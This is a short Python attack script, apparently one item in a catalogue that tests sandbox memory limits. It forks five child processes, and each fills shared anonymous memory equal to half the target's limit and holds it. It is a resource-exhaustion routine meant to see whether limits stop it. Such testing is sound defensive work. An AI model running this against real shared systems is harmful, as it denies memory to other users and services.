# /// attack
# catalogue = "starving: memory (also memfd and shared maps)"
# layers = ["limits", "memory"]
# aim = "memory"
# stock = "nothing there would stop it"
# ///
# Fills shared maps in processes that come and go, and keeps them by descriptors.

# %%
import mmap
import os
import time

for _ in range(5):
    if os.fork() == 0:
        try:
            page = mmap.mmap(-1, TARGET["memory"] // 2)
            for start in range(0, len(page), 1 << 24):
                page[start : start + (1 << 24)] = b"x" * min(1 << 24, len(page) - start)
            time.sleep(3)
        finally:
            os._exit(0)
time.sleep(2.5)
